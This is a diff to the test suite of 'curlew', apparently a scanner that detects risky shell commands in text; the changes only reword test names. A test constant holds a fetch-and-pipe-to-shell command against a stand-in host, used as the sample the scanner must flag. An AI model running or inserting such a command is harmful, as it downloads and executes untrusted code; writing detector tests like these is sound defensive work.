@@ -6,7 +6,7 @@ import { bash, command, curlew } from "./process.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
-it("says which Node it needs, where the one that runs it is older", async () => {
+it("reports the required version of Node if it runs in an older one", async () => {
   const preload = 'Object.defineProperty(process.versions, "node", { value: "18.20.4" })';
   const { status, stdout, stderr } = await curlew(["scan", "-"], {
     stdin: "x",
@@ -30,7 +30,7 @@ describe("scan", () => {
     expect([status, stderr]).toEqual([1, ""]);
   });
 
-  it.each(["<&-", "</dev/null"])("says that nothing was read with %s", async (closed) => {
+  it.each(["<&-", "</dev/null"])("reports that nothing was read with %s", async (closed) => {
     expect(await bash(`curlew scan - ${closed}`)).toMatchObject({
       status: 2,
       stderr: "curlew: <stdin>: is closed or /dev/null; nothing was read\n",
@@ -38,7 +38,7 @@ describe("scan", () => {
     expect((await bash("curlew scan - < <(:)")).status).toBe(0);
   });
 
-  it("leaves a file of its answer as it was where it is interrupted", async () => {
+  it("does not change its output file if it is interrupted", async () => {
     const cwd = folderWith({ "a.md": BAD, "out.json": "before" });
     const { status, stderr } = await bash(
       `coproc ${command.map((word) => `'${word}'`).join(" ")} scan a.md - -f json=out.json -f text
@@ -71,7 +71,7 @@ describe("scan", () => {
     expect(status).toBe(1);
   });
 
-  it("is clean about clean text", async () => {
+  it("finds nothing in clean text", async () => {
     expect(await curlew(["scan", "-"], { stdin: "curl -o f https://x.example/f" })).toEqual({
       status: 0,
       stdout: "no findings in 1 text\n",
@@ -79,7 +79,7 @@ describe("scan", () => {
     });
   });
 
-  it("says which step decided with --trace", async () => {
+  it("shows the deciding step with --trace", async () => {
     const { stdout } = await curlew(["scan", "--trace", "-"], {
       stdin: `${BAD}\n\nNever run \`${BAD}\`.`,
     });
@@ -87,7 +87,7 @@ describe("scan", () => {
     expect(stdout).toMatch(/dismissed \(warned-against\)/);
   });
 
-  it("takes bytes that are no text", async () => {
+  it("reads bytes that are not text", async () => {
     for (const stdin of [
       Buffer.from([0xff, 0xfe, 0x00]),
       Buffer.from("a\0b\0"),
@@ -100,7 +100,7 @@ describe("scan", () => {
     }
   });
 
-  it("answers to 50 MB, and says what it left out", async () => {
+  it("analyzes the beginning of 50 MB, and reports the rest as not analyzed", async () => {
     const stdin = `${"harmless words, line after line\n".repeat(1_640_000)}${BAD}\n`;
     const { status, stdout, stderr } = await curlew(["scan", "-"], { stdin });
     expect(stdout).toMatch(/not fully analyzed \(size\)|bash\/fetch-pipe/);
@@ -135,7 +135,7 @@ describe("messages", () => {
       '((command_name) @source.fetcher\n  (#is-it? @source.fetcher "x"))\n',
       /broken\.scm:2:\d+/,
     ],
-  ])("names a query file with %s", async (_name, text, place) => {
+  ])("report a query file with %s", async (_name, text, place) => {
     const cwd = folderWith({ "mine/bash/broken.scm": text });
     const { status, stderr, stdout } = await curlew(["scan", "--queries", "mine", "-"], {
       cwd,
@@ -148,7 +148,7 @@ describe("messages", () => {
 });
 
 describe("pipes", () => {
-  it("is quiet when the reader goes", async () => {
+  it("end without a message if the reader closes them", async () => {
     const stdin = Array.from({ length: 20_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
       "\n",
     );
@@ -166,13 +166,13 @@ describe("pipes", () => {
     "token list --tokens none",
     "serve --print-config",
     "scan README.md",
-  ])("%s is quiet when nobody reads", async (args) => {
+  ])("of %s end without a message if nothing reads them", async (args) => {
     const { stdout, stderr } = await bash(`curlew ${args} | true; echo "status \${PIPESTATUS[0]}"`);
     expect([stdout, stderr]).toEqual(["status 0\n", ""]);
   });
 
   it.each(["--help", "rules", "scan README.md", "batch corpora/live-gap.v1.jsonl"])(
-    "%s says when its answer cannot be written",
+    "of %s are an error if they cannot be written",
     async (args) => {
       expect(await bash(`curlew ${args} > /dev/full`)).toEqual({
         status: 2,
@@ -182,7 +182,7 @@ describe("pipes", () => {
     },
   );
 
-  it("says when predictions cannot be written", async () => {
+  it("of predictions are an error if they cannot be written", async () => {
     const { status, stderr } = await curlew([
       "batch",
       "corpora/live-gap.v1.jsonl",
@@ -192,7 +192,7 @@ describe("pipes", () => {
     expect([status, stderr]).toEqual([2, "curlew: cannot write /dev/full: no space left\n"]);
   });
 
-  it("writes many predictions to a file without a word", async () => {
+  it("are not written to while many predictions are written to a file", async () => {
     const cwd = folderWith({
       "in.jsonl": Array.from({ length: 5_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
         "\n",
@@ -206,7 +206,7 @@ describe("pipes", () => {
     expect(readFileSync(join(cwd, "out.jsonl"), "utf8").match(/\n/g)).toHaveLength(5_000);
   });
 
-  it("streams large answers whole", async () => {
+  it("transfer large outputs completely", async () => {
     const stdin = Array.from({ length: 20_000 }, (_, id) =>
       JSON.stringify({ id, text: "x", labels: [] }),
     ).join("\n");
@@ -216,7 +216,7 @@ describe("pipes", () => {
     expect(stdout.trim()).toBe("20000");
   });
 
-  it("reads a process substitution and a named pipe", async () => {
+  it("can be read from a process substitution and a named pipe", async () => {
     expect((await bash(`curlew scan <(echo '${BAD}')`)).stdout).toContain(
       "1 finding in 1 of 1 text",
     );
